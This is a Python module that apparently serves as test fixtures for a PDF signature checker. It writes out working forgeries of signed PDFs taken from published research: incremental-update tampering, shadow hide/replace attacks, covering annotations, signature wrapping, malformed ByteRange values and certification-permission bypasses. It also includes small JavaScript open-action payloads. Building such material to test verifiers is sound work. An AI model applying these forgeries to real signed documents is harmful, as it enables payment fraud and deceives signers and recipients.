# SPDX-License-Identifier: Apache-2.0
"""What attackers do to signed PDF files, each class from the literature as a function of a signed document.

Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019): incremental saving, signature wrapping, universal forgery.
Mainka et al., "Shadow Attacks" (NDSS 2021): hide, replace, hide and replace. Rohlmann et al., "Breaking the
Specification" (S&P 2021): annotations and signatures on certified documents. All written out by hand: a library would
refuse to make most of them.
"""

import re
import zlib
from collections.abc import Callable, Mapping

Forgery = Callable[[bytes], bytes]

# Objects of the draft; the signature's own come behind them.
CATALOG, PAGES, PAGE, TEXT, FONT, COVER, STAMP, FORM, LAYER, FIELD, LOOK, OTHER_PAGE, OTHER_TEXT = range(1, 14)
_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Annots [%s]"
    b" /Resources << /Font << /F1 5 0 R >> /XObject << /Cover 6 0 R >> /Properties << /Layer 9 0 R >> >> >>"
)
_OFF = b"/OCProperties << /OCGs [9 0 R] /D << /OFF [%s] >> >>"
_CATALOG = b"<< /Type /Catalog /Pages 2 0 R /AcroForm 8 0 R %s >>"
_WIDGET = (
    b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (remark) /V (%s) /P 3 0 R /Rect [72 600 272 624] /F 4"
    b" /DA (/F1 12 Tf 0 g) /AP << /N 11 0 R >> >>"
)
_STAMP = b"<< /Type /Annot /Subtype /Stamp /P 3 0 R /Rect [%s] /F 4 /AP << /N 6 0 R >> >>"


def draft(replaced: Mapping[int, bytes] | None = None) -> bytes:
    """An order to pay, prepared by somebody who will not be the one to sign it; ``replaced`` are objects of its own.

    It holds what shadow attacks need: a cover that hides a line, a layer that is off, a field, a second page that no
    page tree mentions, and a second version of the page itself that no table mentions.
    """
    objects = {
        CATALOG: _CATALOG % (_OFF % b"9 0 R"),
        PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE: _PAGE % (TEXT, b"7 0 R 10 0 R"),
        TEXT: _stream(
            b"BT /F1 18 Tf 72 760 Td (Pay 1000 yuan) Tj 0 -40 Td (to the document office) Tj ET\n"
            b"/OC /Layer BDC BT /F1 18 Tf 72 500 Td (and 9000 more) Tj ET EMC"
        ),
        FONT: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        COVER: _look(b"1 1 1 rg 0 0 300 40 re f"),
        STAMP: _STAMP % b"60 380 360 420",
        FORM: b"<< /Fields [10 0 R] /DA (/F1 12 Tf 0 g) /DR << /Font << /F1 5 0 R >> >> >>",
        LAYER: b"<< /Type /OCG /Name (Layer) >>",
        FIELD: _WIDGET % b"",
        LOOK: _look(b""),
        OTHER_PAGE: _PAGE % (OTHER_TEXT, b""),
        OTHER_TEXT: _stream(b"BT /F1 18 Tf 72 760 Td (Pay 1000000 yuan to Mallory) Tj ET"),
        **(replaced or {}),
    }
    content, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", {}
    for number, body in objects.items():
        places[number] = len(content)
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
        if number == PAGE:
            content += b"%d 0 obj\n%s\nendobj\n" % (PAGE, _PAGE % (OTHER_TEXT, b""))
    start = len(content)
    rows = b"".join(b"%010d 00000 n \n" % places[number] for number in sorted(places))
    size = len(objects) + 1
    table = b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, rows)
    return content + table + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)


def updated(document: bytes, objects: Mapping[int, bytes], *, table: str = "right", trailer: bytes = b"") -> bytes:
    """The document with an incremental update; ``table`` is "right", "empty" or "none"."""
    content = document if document.endswith(b"\n") else document + b"\n"
    places: dict[int, int] = {}
    for number, body in objects.items():
        places[number] = len(content)
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return content if table == "none" else content + pointing(document, len(content), places, table, trailer)


def packed(document: bytes, number: int, body: bytes) -> bytes:
    """The same with an update whose only object is packed, so that nothing of it stands in the raw bytes."""
    previous, size = int(re.findall(rb"startxref\s+(\d+)", document)[-1]), 62
    content = document + b"\n"
    folded = zlib.compress(b"%d 0 " % number + body, 9)
    first = len(b"%d 0 " % number)
    places = {60: len(content)}
    content += b"60 0 obj\n%s\nendobj\n" % _stream(folded, b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % first)
    places[61] = len(content)
    rows = b"\2" + (60).to_bytes(4, "big") + b"\0\0"
    rows += b"".join(b"\1" + place.to_bytes(4, "big") + b"\0\0" for place in places.values())
    head = b"/Type /XRef /Size %d /W [1 4 2] /Index [%d 1 60 2] /Root 1 0 R /Prev %d" % (size, number, previous)
    return content + b"61 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (_stream(rows, head), places[61])


def called_a_stamp(document: bytes) -> bytes:
    """The only signature is called a time-stamp from now on, in a place that no search finds."""
    number, body = _signature(document)
    other = body.replace(b"/Type /Sig", b"/Type /DocTimeStamp").replace(b"/ETSI.CAdES.detached", b"/ETSI.RFC3161")
    return packed(document, number, other)


def hidden_behind_a_stamp(document: bytes, token: bytes) -> bytes:
    """The form no longer mentions the signature, but a time-stamp over nothing, which is packed."""
    field = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Proof) /P 3 0 R /Rect [0 0 0 0] /F 132 /V 52 0 R >>"
    root = _CATALOG.replace(b"8 0 R", b"50 0 R") % b""
    stamp = b"<< /Type /DocTimeStamp /SubFilter /ETSI.RFC3161 /ByteRange [0 10 20 10] /Contents <%s> >>"
    other = updated(document, {50: b"<< /Fields [51 0 R] >>", 51: field, CATALOG: root})
    return packed(other, 52, stamp % token.hex().encode())


def pointing(
    document: bytes, start: int, places: Mapping[int, int], table: str = "right", trailer: bytes = b""
) -> bytes:
    """A table that says where objects are, and the trailer behind it."""
    previous = re.findall(rb"startxref\s+(\d+)", document)[-1]
    size = max(int(found) for found in re.findall(rb"/Size (\d+)", document))
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % (number, places[number]) for number in sorted(places))
    content = b"xref\n0 0\n" if table == "empty" else b"xref\n" + (rows or b"0 0\n")
    size = max([size, *(number + 1 for number in places)])
    last = b"<< /Size %d %s /Prev %s >>" % (size, trailer or b"/Root 1 0 R", previous)
    return content + b"trailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (last, start)


def _stream(content: bytes, head: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(content), content)


def _look(content: bytes) -> bytes:
    return _stream(content, b"/Type /XObject /Subtype /Form /BBox [0 0 300 40] /Resources << /Font << /F1 5 0 R >> >>")


def _present(document: bytes, number: int) -> bytes:
    """The newest body of an object, as far as a scan finds it."""
    found: list[bytes] = re.findall(rb"(?:^|\n)%d 0 obj\n(.*?)\nendobj" % number, document, re.DOTALL)
    return found[-1]


def _inserted(document: bytes, number: int, entry: bytes) -> bytes:
    """The newest body of a dictionary with one more entry; a doubled one wins in most readers."""
    body = _present(document, number)
    at = body.rindex(b">>")
    return body[:at] + entry + b" " + body[at:]


def _hidden_page(document: bytes) -> int:
    """Where the second version of the page begins, which no table mentions."""
    return [found.start() for found in re.finditer(rb"(?<=\n)3 0 obj\n", document)][1]


def _annots(document: bytes, more: bytes) -> bytes:
    return re.sub(rb"/Annots \[ ?(.*?) ?\]", rb"/Annots [ \1 " + more + b" ]", _present(document, PAGE), count=1)


def _point_at_hidden(document: bytes) -> bytes:
    return document + pointing(document, len(document), {PAGE: _hidden_page(document)})


def _evil_annotation(kind: bytes) -> Forgery:
    note = (
        b"<< /Type /Annot /Subtype /%s /P 3 0 R /Rect [60 740 360 780] /F 4 /Contents (Pay 1000000 yuan to Mallory)"
        b" /DA (/F1 18 Tf 0 g) /QuadPoints [60 780 360 780 60 740 360 740] /AP << /N 41 0 R >> >>" % kind
    )
    look = _look(b"1 1 1 rg 0 0 300 40 re f BT 0 g /F1 18 Tf 0 12 Td (Pay 1000000 yuan to Mallory) Tj ET")
    return lambda document: updated(document, {40: note, 41: look, PAGE: _annots(document, b"40 0 R")})


def _sneaky_field(document: bytes) -> bytes:
    """A further signature field, not signed, whose picture covers the text."""
    field = (
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Second) /P 3 0 R /Rect [60 740 360 780] /F 4"
        b" /AP << /N 41 0 R >> >>"
    )
    look = _look(b"1 1 1 rg 0 0 300 40 re f BT 0 g /F1 18 Tf 0 12 Td (Pay 1000000 yuan to Mallory) Tj ET")
    form = re.sub(rb"/Fields \[(.*?)\]", rb"/Fields [\1 40 0 R ]", _present(document, FORM), count=1)
    return updated(document, {40: field, 41: look, PAGE: _annots(document, b"40 0 R"), FORM: form})


def _signature(document: bytes) -> tuple[int, bytes]:
    """Number and body of the signature dictionary."""
    found = list(re.finditer(rb"\n(\d+) 0 obj\n(<<(?:(?!endobj).)*?/ByteRange.*?)\nendobj", document, re.DOTALL))[-1]
    return int(found[1]), found[2]


def _cloned(document: bytes) -> bytes:
    """The same signature once more, under a field of its own, over the changed file."""
    _, body = _signature(document)
    field = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Again) /P 3 0 R /Rect [0 0 0 0] /F 4 /V 43 0 R >>"
    form = re.sub(rb"/Fields \[(.*?)\]", rb"/Fields [\1 42 0 R ]", _present(document, FORM), count=1)
    return updated(document, {42: field, 43: body, FORM: form, PAGES: b"<< /Type /Pages /Kids [12 0 R] /Count 1 >>"})


def _replaced_signature(document: bytes) -> bytes:
    """The signature's own object once more, its range stretched over the whole new file."""
    number, body = _signature(document)
    stretched = re.sub(rb"/ByteRange \[.*?\] *", b"/ByteRange [0 %d %d 99] ", body)
    first, second = (int(found) for found in re.findall(rb"/ByteRange \[0 (\d+) (\d+) \d+\]", document)[-1])
    return updated(
        document, {number: stretched % (first, second), PAGES: b"<< /Type /Pages /Kids [12 0 R] /Count 1 >>"}
    )


def _wrapped(document: bytes) -> bytes:
    """The signed tail moved to the end, and a table of the attacker's in the place where it was."""
    found = re.search(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]( *)", document)
    assert found
    first, second, rest = (int(found[group]) for group in (1, 2, 3))
    table = int(re.findall(rb"startxref\s+(\d+)", document)[-1])
    page = b"\n3 0 obj\n%s\nendobj\n" % (_PAGE % (OTHER_TEXT, b""))
    before = document[second:table].replace(b"\n", b" ")
    evil = (before[: table - second - len(page)] + page).ljust(table - second)
    evil += pointing(document, table, {PAGE: second + evil.index(b"3 0 obj")})
    changed = b"/ByteRange [0 %d %d %d]" % (first, second + len(evil), rest)
    return document[:second].replace(found[0], changed.ljust(len(found[0]))) + evil + document[second:]


def _wrapped_by_a_second_range(document: bytes) -> bytes:
    """As before, but the changed range stands behind the untouched one, in what was the room of the signature."""
    found = re.search(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]", document)
    assert found
    first, second, rest = (int(found[group]) for group in (1, 2, 3))
    evil = b"> /ByteRange [0 %d %d %d] /X <" % (first, second + 400, rest)
    return document[: second - 1] + evil.ljust(400) + document[second - 1 :]


def _range(new: bytes) -> Forgery:
    def forge(document: bytes) -> bytes:
        found = re.search(rb"/ByteRange \[[^\]]*\] *", document)
        assert found
        return document.replace(found[0], new.ljust(len(found[0])))

    return forge


def _contents(new: bytes) -> Forgery:
    def forge(document: bytes) -> bytes:
        found = re.search(rb"/Contents <[0-9A-F]{100,}>", document)
        assert found
        return document.replace(found[0], (b"/Contents " + new).ljust(len(found[0])))

    return forge


def _renamed(old: bytes, new: bytes) -> Forgery:
    assert len(old) == len(new)
    return lambda document: document.replace(old, new)


SWAPPED = (
    b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding /Differences"
    b" [48 /nine /one /two /three /four /five /six /seven /eight /zero] >> >>"
)
METADATA = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF'
    b' xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about=""'
    b' xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">Pay 1000000 yuan'
    b'</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
)
OTHER_TREE = b"<< /Type /Pages /Kids [12 0 R] /Count 1 >>"
BOTH_PAGES = b"<< /Type /Pages /Kids [3 0 R 12 0 R] /Count 2 >>"

INCREMENTAL: dict[str, Forgery] = {
    "another text": lambda document: updated(document, {TEXT: _stream(b"BT /F1 18 Tf 72 760 Td (Pay 9) Tj ET")}),
    "an appended page": lambda document: updated(document, {PAGES: BOTH_PAGES}),
    "an appended page and an empty table": lambda document: updated(document, {PAGES: BOTH_PAGES}, table="empty"),
    "an appended page and no table": lambda document: updated(document, {PAGES: BOTH_PAGES}, table="none"),
    "no form": lambda document: updated(document, {CATALOG: b"<< /Type /Catalog /Pages 2 0 R >>"}),
    "an empty form": lambda document: updated(document, {FORM: b"<< /Fields [] >>"}),
    "another root": lambda document: updated(
        document, {44: b"<< /Type /Catalog /Pages 45 0 R >>", 45: OTHER_TREE}, trailer=b"/Root 44 0 R"
    ),
    "an action at opening": lambda document: updated(
        document, {CATALOG: _inserted(document, CATALOG, b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")}
    ),
    "an attached file": lambda document: updated(
        document,
        {
            CATALOG: _inserted(document, CATALOG, b"/Names << /EmbeddedFiles << /Names [(x) 46 0 R] >> >>"),
            46: b"<< /Type /Filespec /F (x) /EF << /F 47 0 R >> >>",
            47: _stream(b"evil", b"/Type /EmbeddedFile"),
        },
    ),
    "another title": lambda document: updated(
        document, {48: b"<< /Title (Pay 1000000 yuan) >>"}, trailer=b"/Root 1 0 R /Info 48 0 R"
    ),
    "other metadata": lambda document: updated(
        document,
        {
            CATALOG: re.sub(rb"/Metadata \d+ 0 R", b"/Metadata 49 0 R", _present(document, CATALOG)),
            49: _stream(METADATA, b"/Type /Metadata /Subtype /XML"),
        },
    ),
    "a trailer in a comment": lambda document: updated(
        document + b"% trailer << /Root 44 0 R >>\n", {FIELD: _WIDGET % b"9"}
    ),
    "an object in a comment": lambda document: updated(
        document + b"% 3 0 obj << /Type /Page /Contents 13 0 R >> endobj\n", {FIELD: _WIDGET % b"9"}
    ),
    "a cloned signature": _cloned,
    "a stretched signature": _replaced_signature,
}
SHADOW: dict[str, Forgery] = {
    "hide: the cover is emptied": lambda document: updated(document, {COVER: _look(b"")}),
    "hide: the cover is moved away": lambda document: updated(document, {STAMP: _STAMP % b"0 0 0 0"}),
    "hide: the cover is taken off the page": lambda document: updated(
        document, {PAGE: _present(document, PAGE).replace(b"7 0 R ", b"")}
    ),
    "hide: the layer is switched on": lambda document: updated(
        document, {CATALOG: _present(document, CATALOG).replace(b"/OFF [ 9 0 R ]", b"/OFF []")}
    ),
    "replace: the font's digits change places": lambda document: updated(document, {FONT: SWAPPED}),
    "hide and replace: another page tree": lambda document: updated(document, {PAGES: OTHER_TREE}),
    "hide and replace: the page that no table mentioned": _point_at_hidden,
}
COVERING: dict[str, Forgery] = {
    **{
        f"a {kind} annotation": _evil_annotation(kind.encode()) for kind in ("FreeText", "Stamp", "Highlight", "Redact")
    },
    "a signature field that covers the text": _sneaky_field,
}
WRAPPING: dict[str, Forgery] = {
    "the signed tail moved": _wrapped,
    "a second range": _wrapped_by_a_second_range,
}
UNIVERSAL: dict[str, Forgery] = {
    **{
        f"the range is {new.decode()}": _range(new)
        for new in (
            b"/ByteRange null", b"/ByteRange []", b"/ByteRange [0]", b"/ByteRange [0 0 0 0]", b"/ByteRange [0 1 1 0]",
            b"/ByteRange [0 -1 -1 0]", b"/ByteRange [-1 1 1 1]", b"/ByteRange [a b c d]", b"/ByteRange [0 9999999 9 9]",
            b"/ByteRange [1 2 3 4 5 6]", b"/ByteRange (x)", b"/ByteRange 16 0 R", b"",
        )
    },
    **{
        f"the content is {new.decode()}": _contents(new)
        for new in (b"null", b"<>", b"<00>", b"<0000>", b"<3000>", b"()", b"[]", b"16 0 R", b"<< >>")
    },
    "no content": _renamed(b"/Contents <", b"/Xontents <"),
    "no type of signature": _renamed(b"/SubFilter /ETSI.CAdES.detached", b"/SubFilter /ETSI.CAdES.detacheX"),
    "no filter": _renamed(b"/SubFilter", b"/XubFilter"),
    "an obsolete type of signature": _renamed(b"/ETSI.CAdES.detached", b"/adbe.x509.rsa_sha1 "),
}  # fmt: skip
EVERY: dict[str, Forgery] = {**INCREMENTAL, **SHADOW, **COVERING, **WRAPPING, **UNIVERSAL}


def filled(document: bytes, value: bytes = b"received") -> bytes:
    """What a form is for: the field filled in, with the look that goes with it."""
    return updated(document, {FIELD: _WIDGET % value, LOOK: _look(b"BT /F1 12 Tf (%s) Tj ET" % value)})


def look_replaced(document: bytes) -> bytes:
    """Another look for a field whose value stays as it was."""
    return updated(document, {LOOK: _look(b"BT /F1 18 Tf (1000000 yuan) Tj ET")})


def rights_widened(document: bytes) -> bytes:
    """The certification's own word of what may change, overwritten."""
    number, body = _signature(document)
    return filled(updated(document, {number: body.replace(b"/P 1", b"/P 3")}))


def certification_dropped(document: bytes) -> bytes:
    """A catalogue that no longer says that the document is certified."""
    catalog = re.sub(rb"/Perms <<.*?>>", b"", _present(document, CATALOG), flags=re.DOTALL)
    return filled(updated(document, {CATALOG: catalog}))


def slipped_in() -> dict[str, tuple[bytes, Forgery]]:
    """Drafts and what is made of them with objects that no rule about changes looks at."""
    evil = _look(b"BT /F1 18 Tf 0 12 Td (Pay 1000000 yuan to Mallory) Tj ET")
    heir = b"<< /Type /Page /Parent 98 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    text = _stream(b"BT /F1 18 Tf 72 760 Td (Pay 1000 yuan) Tj ET /X Do")
    above = (
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R"
        b" /Resources << /Font << /F1 5 0 R >> /XObject << /X 97 0 R >> >> >>"
    )
    torn = (_PAGE % (TEXT, b"7 0 R 10 0 R")).replace(b"4 0 R", b"[ 4 0 R 98 0 R ]")
    script = b"/AA << /PO << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
    return {
        "what the page inherits was left open": (
            draft({PAGE: heir, TEXT: text}),
            lambda order: updated(order, {98: above, 97: evil}),
        ),
        "a part of the page was left open": (draft({PAGE: torn}), lambda order: updated(order, {98: evil})),
        "a corner that is a reference": (draft({OTHER_TEXT: b"780"}), _new_field(b"60 740 360 13 0 R")),
        "a corner too many": (draft(), _new_field(b"60 740 360 780 0")),
        "a field that nobody sees and that acts": (draft(), _new_field(b"0 0 0 0", script)),
        "what lay above lies below": (draft(), _new_field(b"0 0 0 0", first=True)),
        "a field's value in the place of its look": (
            draft({FIELD: _WIDGET % b"9000"}),
            lambda order: updated(order, {FORM: _inserted(order, FORM, b"/NeedAppearances true")}),
        ),
        "fields are drawn in another font": (
            draft(),
            lambda order: updated(order, {FORM: _present(order, FORM).replace(b"F1 12 Tf", b"F1 99 Tf")}),
        ),
    }


def _new_field(corners: bytes, more: bytes = b"", *, first: bool = False) -> Forgery:
    """A field for a signature that looks like what stands in the file already."""
    field = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Proof) /P 3 0 R /Rect [%s] /F 4 /AP << /N 6 0 R >> %s >>"

    def forge(order: bytes) -> bytes:
        form = re.sub(rb"/Fields \[(.*?)\]", rb"/Fields [\1 90 0 R ]", _present(order, FORM), count=1)
        page = _annots(order, b"90 0 R")
        page = page.replace(b"7 0 R 10 0 R", b"10 0 R 7 0 R") if first else page
        return updated(order, {90: field % (corners, more), PAGE: page, FORM: form})

    return forge


def unseen_field(order: bytes) -> bytes:
    """An empty field that nobody sees, as programs add one before a time-stamp."""
    return _new_field(b"0 0 0 0")(order)
